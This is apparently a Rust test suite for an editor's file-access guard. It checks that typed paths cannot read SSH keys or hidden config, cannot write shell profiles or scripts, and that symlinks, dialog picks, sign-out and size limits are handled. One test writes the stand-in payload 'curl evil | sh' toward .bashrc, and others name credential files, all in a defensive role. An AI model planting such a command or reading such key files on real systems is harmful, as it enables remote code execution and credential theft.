use super::*;
use crate::editor::editor_codes::{FILE_NOT_ALLOWED, FILE_TOO_LARGE};

struct Scratch(PathBuf);

impl Scratch {
    fn new(name: &str) -> Scratch {
        let dir = std::env::temp_dir().join(format!("sc-files-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        Scratch(dir)
    }

    fn file(&self, name: &str, text: &str) -> String {
        let path = self.0.join(name);
        if let Some(folder) = path.parent() {
            std::fs::create_dir_all(folder).unwrap();
        }
        std::fs::write(&path, text).unwrap();
        path.to_str().unwrap().to_string()
    }

    fn app(&self) -> AppWorkspace {
        let app = AppWorkspace::at(self.0.join("workspace.db"));
        app.act_with_file_access("tester");
        app
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[test]
fn a_typed_path_reads_documents_of_the_kind_asked_for_and_nothing_else() {
    let dir = Scratch::new("typed");
    let app = dir.app();
    let mapping = dir.file("contacts.json", "{\"email\": \"Email\"}");
    assert_eq!(
        read_text_file(&app, &mapping).unwrap(),
        "{\"email\": \"Email\"}"
    );

    // What a script in the window would go for: keys, shell start-up files, the workspace.
    let key = dir.file(".ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----");
    let hidden_json = dir.file(".config/settings.json", "{}");
    let workspace = dir.file("workspace.db", "SQLite format 3");
    for path in [&key, &hidden_json, &workspace] {
        let refused = read_text_file(&app, path).unwrap_err();
        assert_eq!(refused.code, FILE_NOT_ALLOWED, "{path}");
        assert!(
            refused.message.starts_with(path.as_str()),
            "{}",
            refused.message
        );
        let refused = read_sample_file(&app, path, None).unwrap_err();
        assert_eq!(refused.code, FILE_NOT_ALLOWED, "{path}");
    }
    let relative = read_text_file(&app, "contacts.json").unwrap_err();
    assert_eq!(relative.code, FILE_NOT_ALLOWED);
    assert!(
        relative.message.contains("full path"),
        "{}",
        relative.message
    );
}

#[cfg(unix)]
#[test]
fn a_link_is_judged_by_the_file_it_leads_to() {
    let dir = Scratch::new("link");
    let app = dir.app();
    let key = dir.file(".ssh/id_rsa", "secret");
    let link = dir.0.join("innocent.json");
    std::os::unix::fs::symlink(&key, &link).unwrap();
    let refused = read_text_file(&app, link.to_str().unwrap()).unwrap_err();
    assert_eq!(refused.code, FILE_NOT_ALLOWED);
    let written = write_text_file(&app, link.to_str().unwrap(), "{}").unwrap_err();
    assert_eq!(written.code, FILE_NOT_ALLOWED);
    assert_eq!(std::fs::read_to_string(&key).unwrap(), "secret");
}

#[test]
fn a_typed_path_writes_only_a_mapping_file() {
    let dir = Scratch::new("write");
    let app = dir.app();
    let mapping = dir.0.join("new.mapping.json");
    write_text_file(&app, mapping.to_str().unwrap(), "{}").unwrap();
    assert_eq!(std::fs::read_to_string(&mapping).unwrap(), "{}");

    let profile = dir.file(".bashrc", "# mine");
    let script = dir.0.join("run.sh");
    for path in [profile.clone(), script.to_str().unwrap().to_string()] {
        let refused = write_text_file(&app, &path, "curl evil | sh").unwrap_err();
        assert_eq!(refused.code, FILE_NOT_ALLOWED, "{path}");
    }
    assert_eq!(std::fs::read_to_string(&profile).unwrap(), "# mine");
    assert!(!script.exists());
}

#[test]
fn a_file_picked_in_the_dialog_opens_whatever_its_name_and_only_as_picked() {
    let dir = Scratch::new("picked");
    let app = dir.app();
    let sample = dir.file(".exports/contacts.dat", "[{\"id\": 1}]");
    let refused = read_sample_file(&app, &sample, None).unwrap_err();
    assert_eq!(refused.code, FILE_NOT_ALLOWED);

    let shown = file_picked(&app, Path::new(&sample), FilePurpose::OpenSample).unwrap();
    assert_eq!(shown, sample);
    assert_eq!(
        read_sample_file(&app, &sample, None).unwrap().text,
        "[{\"id\": 1}]"
    );
    // Picked to be read is not picked to be written.
    let write = write_text_file(&app, &sample, "[]").unwrap_err();
    assert_eq!(write.code, FILE_NOT_ALLOWED);

    // A save dialog's new file may be written, then read back.
    let target = dir.0.join(".exports/out.mapping");
    file_picked(&app, &target, FilePurpose::SaveMapping).unwrap();
    write_text_file(&app, target.to_str().unwrap(), "{}").unwrap();
    assert_eq!(
        read_text_file(&app, target.to_str().unwrap()).unwrap(),
        "{}"
    );
}

#[test]
fn what_one_user_picked_is_forgotten_when_they_sign_out() {
    let dir = Scratch::new("forget");
    let app = dir.app();
    let sample = dir.file(".exports/contacts.dat", "[]");
    file_picked(&app, Path::new(&sample), FilePurpose::OpenSample).unwrap();
    assert!(read_sample_file(&app, &sample, None).is_ok());
    crate::users::log_out(&app);
    assert_eq!(
        read_sample_file(&app, &sample, None).unwrap_err().code,
        "NOT_SIGNED_IN"
    );
    app.act_with_file_access("someone-else");
    assert_eq!(
        read_sample_file(&app, &sample, None).unwrap_err().code,
        FILE_NOT_ALLOWED
    );
    // Nor can anyone pick without signing in.
    crate::users::log_out(&app);
    assert_eq!(may_pick(&app).unwrap_err().code, "NOT_SIGNED_IN");
    let picked = file_picked(&app, Path::new(&sample), FilePurpose::OpenSample).unwrap_err();
    assert_eq!(picked.code, "NOT_SIGNED_IN");
}

#[test]
fn a_file_larger_than_the_editor_opens_is_refused_naming_the_limit() {
    let dir = Scratch::new("large");
    let app = dir.app();
    let path = dir.0.join("huge.json");
    let file = std::fs::File::create(&path).unwrap();
    file.set_len(MAX_TEXT_BYTES + 1).unwrap();
    let refused = read_text_file(&app, path.to_str().unwrap()).unwrap_err();
    assert_eq!(refused.code, FILE_TOO_LARGE);
    assert!(refused.message.contains("32 MB"), "{}", refused.message);
}
